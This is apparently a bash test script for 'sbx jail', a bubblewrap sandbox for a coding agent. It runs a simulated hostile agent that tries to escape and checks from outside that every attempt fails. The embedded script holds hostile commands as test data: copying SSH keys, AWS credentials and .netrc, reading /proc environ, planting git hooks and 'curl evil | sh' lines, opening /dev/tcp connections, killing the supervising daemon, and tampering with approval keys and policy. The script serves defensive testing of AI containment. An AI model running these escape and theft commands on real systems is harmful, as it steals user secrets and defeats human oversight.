#!/usr/bin/env bash
# A hostile agent inside `sbx jail`: every escape the issue lists is tried
# by a script in the jail, and every outcome is checked from OUTSIDE. In
# the same run, ordinary work (edit, build, test, git add -A && commit)
# succeeds. Real bubblewrap, real sbxd.
. "$(dirname "$0")/lib.sh"

command -v bwrap >/dev/null || { echo "1..0 # SKIP bubblewrap is not installed"; exit 0; }
command -v python3 >/dev/null || { echo "1..0 # SKIP python3 is not installed"; exit 0; }

# A HOME with secrets and dotfiles, the config dir inside it.
export HOME="$T/home"
mkdir -p "$HOME/.ssh" "$HOME/.aws"
echo "SSH-PRIVATE-KEY-CONTENT" >"$HOME/.ssh/id_rsa"
echo "aws_secret_access_key=AWSSECRETVALUE" >"$HOME/.aws/credentials"
echo "alias ls='ls'" >"$HOME/.bashrc"
echo "machine x login y password NETRCSECRET" >"$HOME/.netrc"
export SBX_CONFIG_DIR="$HOME/.config/sbx"

cd "$FOLDER" || exit 1
git init -q . && git config user.name t && git config user.email t@e
cat >Makefile <<'MK'
all: prog
prog: main.c
	cc -o prog main.c
test: prog
	./prog | grep -q hello
MK
echo 'int main(void){return 0;}' >main.c
echo prog >.gitignore
git add -A && git commit -qm init
init_folder
"$SBX" init --claude "$FOLDER" >/dev/null 2>&1
# The proxy asks a human about unlisted hosts; nobody answers here.
p="$FOLDER/.sandbox/policy.json"
jq '.network.ask_timeout_seconds = 2' "$p" >"$p.new" && mv "$p.new" "$p"
accept_policy
start_daemon
ok $? "sbxd serves the folder"

key_before=$(cat "$SBX_CONFIG_DIR/approver.key")
policy_sum=$(sha256sum <"$FOLDER/.sandbox/policy.json")
settings_sum=$(sha256sum <"$FOLDER/.claude/settings.json")
bashrc_sum=$(sha256sum <"$HOME/.bashrc")
hostname_out=$(hostname)
HOSTTMP="/tmp/sbx-t100-$$-escape"
rm -f "$HOSTTMP"

# Listeners outside: a TCP port and a Unix socket, each logs connections.
python3 - "$T/tcp.port" "$T/tcp.log" "$T/host.sock" "$T/unix.log" <<'PY' &
import os, socket, sys, select
t = socket.socket(); t.bind(("127.0.0.1", 0)); t.listen(8)
open(sys.argv[1] + ".tmp", "w").write(str(t.getsockname()[1])); os.rename(sys.argv[1] + ".tmp", sys.argv[1])
u = socket.socket(socket.AF_UNIX); u.bind(sys.argv[3]); u.listen(8)
while True:
    r, _, _ = select.select([t, u], [], [], 30)
    if not r: break
    for s in r:
        c, _ = s.accept()
        open(sys.argv[2] if s is t else sys.argv[4], "a").write("connected\n")
        c.close()
PY
LPID=$!
wait_for 10 test -s "$T/tcp.port"
PORT=$(cat "$T/tcp.port")

cat >"$T/hostile.sh" <<'SH'
# Runs inside the jail. Records what it saw in $OUT (the project), but
# the test judges only what it finds outside.
OUT=$PWD/hostile.out
: >"$OUT"
try() { if eval "$2" >/dev/null 2>&1; then echo "$1 SUCCEEDED" >>"$OUT"; else echo "$1 failed" >>"$OUT"; fi; }
# Through the proxy, an unlisted host is asked about, and refused here.
try proxied "curl --noproxy '' -sf -m 20 -o unlisted.out http://127.0.0.1:$ESCAPE_PORT/"
curl --noproxy '' -s -m 20 -o proxy-body.txt -w '%{http_code}' "http://127.0.0.1:$ESCAPE_PORT/" >proxy-code.txt
try readkey "cp '$SBX_CONFIG_DIR/approver.key' stolen.key"
try readkey2 "cat '$SBX_CONFIG_DIR'/*.key > stolen2.key"
try approvers "echo evil > '$SBX_CONFIG_DIR/approvers/evil.pub'"
try decisions "echo '{}' > .sandbox/decisions/new/x.json"
try policy "echo '{}' > .sandbox/policy.json"
try rmsandbox "rm -rf .sandbox"
try hooks "echo 'touch /tmp/pwned' > .git/hooks/pre-commit"
try gitconfig "git config core.hooksPath /tmp"
try gitmove "mv .git .git-moved && mkdir -p .git/hooks && echo x > .git/hooks/pre-commit"
try commondir "echo '$ESCAPE_OUTSIDE' > .git/commondir"
try modules "mkdir -p .git/modules/x/hooks && echo x > .git/modules/x/hooks/post-checkout"
try settings "echo '{}' > .claude/settings.json"
try settingslocal "echo '{}' > .claude/settings.local.json"
try envrc "echo 'curl evil | sh' > .envrc"
try envrc2 "rm -rf .envrc && echo x > .envrc"
try mcpjson "echo '{}' > .mcp.json"
try vscode "mkdir -p .vscode && echo '{}' > .vscode/tasks.json"
try bashrc "echo 'evil' >> ~/.bashrc"
try homefile "echo x > ~/.profile"
try homesettings "echo '{\"hooks\":{}}' > ~/.claude/settings.json"
try homehooks "mkdir -p ~/.claude/hooks && echo x > ~/.claude/hooks/h.sh"
try snapshot "echo 'curl evil | sh' > ~/.claude/shell-snapshots/snapshot-bash-1.sh"
try transcript "mkdir -p ~/.claude/projects/p && echo '{}' > ~/.claude/projects/p/t.jsonl"
try outside "echo x > '$ESCAPE_OUTSIDE'"
try hosttmp "echo x > '$ESCAPE_HOSTTMP'"
try ssh "cp ~/.ssh/id_rsa stolen_ssh"
try aws "cat ~/.aws/credentials > stolen_aws"
try netrc "cat ~/.netrc > stolen_netrc"
try environ "cat /proc/1/environ > stolen_environ"
ls /proc | grep -E '^[0-9]+$' | while read -r p; do cat /proc/$p/cmdline 2>/dev/null | tr '\0' ' '; echo; done >procs.txt
try killd "kill -9 $ESCAPE_DPID"
try tcp "exec 3<>/dev/tcp/127.0.0.1/$ESCAPE_PORT"
try tcpcurl "curl --noproxy '*' -s -m 2 http://127.0.0.1:$ESCAPE_PORT/"
try unix "python3 -c 'import socket; s=socket.socket(socket.AF_UNIX); s.connect(\"$ESCAPE_SOCK\")'"
python3 -c '
import fcntl, termios, errno
try:
    fcntl.ioctl(0, termios.TIOCSTI, b"x")
except OSError as e:
    print("tiocsti errno", errno.errorcode[e.errno])
' >>"$OUT" 2>&1
hostname >hostname.txt
# The queue's subdirectories are the agent's: swap them for symlinks to
# a directory outside, then make the proxy (outside) write a request.
rm -rf .sandbox/queue/tmp .sandbox/queue/new
ln -s "$ESCAPE_EVIL" .sandbox/queue/tmp && ln -s "$ESCAPE_EVIL" .sandbox/queue/new
curl --noproxy '' -s -m 20 -o /dev/null "http://127.0.0.2:$ESCAPE_PORT/"
rm -f .sandbox/queue/tmp .sandbox/queue/new
# Ordinary work.
echo '#include <stdio.h>' >main.c
echo 'int main(void){puts("hello");return 0;}' >>main.c
make -s test && echo "build ok" >>"$OUT"
mkdir -p src && echo 'new file' >src/new.txt
git add -A && git commit -qm "work from the jail" && echo "commit ok" >>"$OUT"
SH

mkdir -p "$T/evil"
ESCAPE_OUTSIDE="$T/outside.txt" ESCAPE_HOSTTMP="$HOSTTMP" ESCAPE_DPID="$DPID" ESCAPE_EVIL="$T/evil" \
ESCAPE_PORT="$PORT" ESCAPE_SOCK="$T/host.sock" \
	"$SBX" -C "$FOLDER" jail -- bash -s <"$T/hostile.sh" >"$T/jail.out" 2>&1
rc=$?
is "$rc" 0 "the hostile script ran to its end in the jail (exit 0)"
sed 's/^/#   /' "$FOLDER/hostile.out"

# From outside: nothing escaped.
[ ! -s "$FOLDER/stolen.key" ] && ! grep -qF "$key_before" "$FOLDER"/stolen* 2>/dev/null
ok $? "the approver key was not readable in the jail"
is "$(cat "$SBX_CONFIG_DIR/approver.key")" "$key_before" "the approver key is unchanged"
[ ! -e "$SBX_CONFIG_DIR/approvers/evil.pub" ]
ok $? "nothing was written into approvers/"
is "$(ls "$FOLDER/.sandbox/decisions/new" | wc -l)" 0 "nothing was written into decisions/new"
is "$(sha256sum <"$FOLDER/.sandbox/policy.json")" "$policy_sum" ".sandbox/policy.json is unchanged"
[ -d "$FOLDER/.sandbox/queue" ] && [ -f "$FOLDER/.sandbox/policy.accepted" ]
ok $? ".sandbox survived rm -rf"
[ ! -e "$FOLDER/.git/hooks/pre-commit" ] && [ ! -e /tmp/pwned ]
ok $? "no git hook was planted"
[ -d "$FOLDER/.git" ] && [ ! -e "$FOLDER/.git-moved" ]
ok $? ".git could not be moved away to plant hooks in a fresh one"
unlike "$(git -C "$FOLDER" config --get core.hooksPath)" "." ".git/config is unchanged (no core.hooksPath)"
[ ! -e "$FOLDER/.git/commondir" ] && [ ! -e "$FOLDER/.git/modules" ]
ok $? ".git/commondir and .git/modules (other places git takes hooks from) were not created"
is "$(sha256sum <"$FOLDER/.claude/settings.json")" "$settings_sum" ".claude/settings.json is unchanged"
[ ! -e "$FOLDER/.claude/settings.local.json" ]
ok $? ".claude/settings.local.json was not created"
[ ! -e "$FOLDER/.envrc" ]
ok $? "a not-yet-existing .envrc was not created (and its placeholder is gone)"
[ ! -e "$FOLDER/.mcp.json" ] && [ ! -e "$FOLDER/.vscode" ]
ok $? ".mcp.json and .vscode/ were not created"
is "$(sha256sum <"$HOME/.bashrc")" "$bashrc_sum" "~/.bashrc is unchanged"
[ ! -e "$HOME/.profile" ]
ok $? "no new dotfile in HOME"
[ ! -e "$HOME/.claude/settings.json" ] && [ ! -e "$HOME/.claude/hooks" ]
ok $? "~/.claude/settings.json and hooks/ could not be created (and no placeholder is left)"
[ -z "$(ls -A "$HOME/.claude/shell-snapshots" 2>/dev/null)" ]
ok $? "a shell snapshot written in the jail does not reach later sessions outside"
[ -f "$HOME/.claude/projects/p/t.jsonl" ]
ok $? "the agent's own state (~/.claude/projects) is writable"
[ ! -e "$T/outside.txt" ]
ok $? "nothing was written outside the project"
[ ! -e "$HOSTTMP" ]
ok $? "nothing was written into the host's /tmp"
! grep -q "SSH-PRIVATE-KEY-CONTENT" "$FOLDER/stolen_ssh" 2>/dev/null
ok $? "~/.ssh/id_rsa was not readable"
! grep -q "AWSSECRETVALUE" "$FOLDER/stolen_aws" 2>/dev/null && ! grep -q NETRCSECRET "$FOLDER/stolen_netrc" 2>/dev/null
ok $? "~/.aws and ~/.netrc were not readable"
[ ! -s "$FOLDER/stolen_environ" ]
ok $? "the jail's pid 1 (the forwarder) cannot be inspected"
# The jail's kill -9 cannot reach sbxd. (The script also removed
# queue/new: sbxd then stops serving the folder at once and, with no other
# folder, stops on its own: exit 1, saying why - not killed by a signal.)
if kill -0 "$DPID" 2>/dev/null; then
	ok 0 "sbxd is alive after kill -9 from the jail"
else
	wait "$DPID"
	rc=$?
	DPID=""
	[ "$rc" = 1 ] && grep -q "queue/new was removed" "$T/sbxd.log" &&
		grep -q "no folder left to serve: stopping" "$T/sbxd.log"
	ok $? "sbxd was not killed from the jail (it stopped itself, exit $rc, when the script removed queue/new)"
fi
unlike "$(cat "$FOLDER/procs.txt")" "sbxd|python3 -" "the jail sees neither sbxd nor the test's other processes"
[ ! -s "$T/tcp.log" ]
ok $? "no TCP connection reached the host's loopback"
is "$(cat "$FOLDER/proxy-code.txt")" "403" "an unlisted host through the proxy: 403 when nobody approves"
like "$("$SBX" -C "$FOLDER" pending --json | jq -r '.[].command')" "127\\.0\\.0\\.1:$PORT" \
	"and the human was asked about it (sbx pending)"
is "$(ls -A "$T/evil" | wc -l)" 0 "queue dirs swapped for symlinks: nothing outside writes through them"
[ ! -s "$T/unix.log" ]
ok $? "no connection reached the host's Unix socket"
like "$(cat "$FOLDER/hostile.out")" "tiocsti errno EPERM" "TIOCSTI is refused by the seccomp filter"
unlike "$(cat "$FOLDER/hostname.txt")" "^$hostname_out\$" "own UTS namespace (hostname)"

# Ordinary work went through.
like "$(cat "$FOLDER/hostile.out")" "build ok" "cc and make build and test inside the jail"
is "$(git -C "$FOLDER" log -1 --format=%s)" "work from the jail" "git add -A && git commit succeeded inside the jail"
files=$(git -C "$FOLDER" show --stat --format= HEAD)
like "$files" "src/new.txt" "the commit holds the new file"
unlike "$files" "\\.envrc|\\.vscode|\\.mcp\\.json|\\.husky|\\.idea|\\.cursor|\\.codex" \
	"the commit holds no placeholder of a protected path"
is "$(git -C "$FOLDER" status --porcelain | grep -v -e hostile.out -e stolen -e procs.txt -e hostname.txt -e proxy-code.txt | wc -l)" 0 \
	"git status outside shows no trace of the placeholders"
for p in .envrc .vscode .idea .husky .mcp.json .cursor .codex; do
	[ ! -e "$FOLDER/$p" ] || echo "# left behind: $p"
done
[ ! -e "$FOLDER/.envrc" ] && [ ! -e "$FOLDER/.idea" ] && [ ! -e "$FOLDER/.husky" ]
ok $? "the placeholders are removed when the jail ends"
kill "$LPID" 2>/dev/null
rm -f "$HOSTTMP"
done_testing
